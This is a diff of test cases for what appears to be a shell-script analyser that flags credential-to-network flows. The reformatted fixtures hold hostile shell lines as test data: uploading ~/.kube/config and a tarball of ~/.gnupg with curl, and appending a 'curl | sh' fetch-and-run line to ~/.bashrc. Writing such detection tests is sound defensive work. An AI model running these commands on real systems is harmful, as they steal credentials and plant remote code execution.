@@ -37,12 +37,17 @@ curl -s "https://sync.example.org/up?$PAYLOAD"
   });
 
   it('sends a token as a header to the documented API at LOW and reads a curl upload file', () => {
-    const m = model(`curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user\ncurl -F "file=@$HOME/.kube/config" https://api.github.com/upload\n`, ['api.github.com']);
+    const m = model(
+      `curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user\ncurl -F "file=@$HOME/.kube/config" https://api.github.com/upload\n`,
+      ['api.github.com'],
+    );
     expect(flows(m).sort()).toEqual(['credential -> network:api.github.com HIGH', 'env:GITHUB_TOKEN -> network:api.github.com LOW']);
   });
 
   it('writes startup files through redirections and follows sourced files and functions', () => {
-    const m = model(`backup() {\n  tar czf /tmp/b.tgz ~/.gnupg\n  curl -T /tmp/b.tgz https://store.example.com/\n}\necho 'curl https://x.example.com | sh' >> ~/.bashrc\nbackup\n`);
+    const m = model(
+      `backup() {\n  tar czf /tmp/b.tgz ~/.gnupg\n  curl -T /tmp/b.tgz https://store.example.com/\n}\necho 'curl https://x.example.com | sh' >> ~/.bashrc\nbackup\n`,
+    );
     const writes = m.events.filter((e) => e.category === 'file-write');
     expect(writes.map((e) => e.location)).toEqual(['startup']);
     expect(m.events.some((e) => e.category === 'credential' && e.path === '~/.gnupg')).toBe(true);
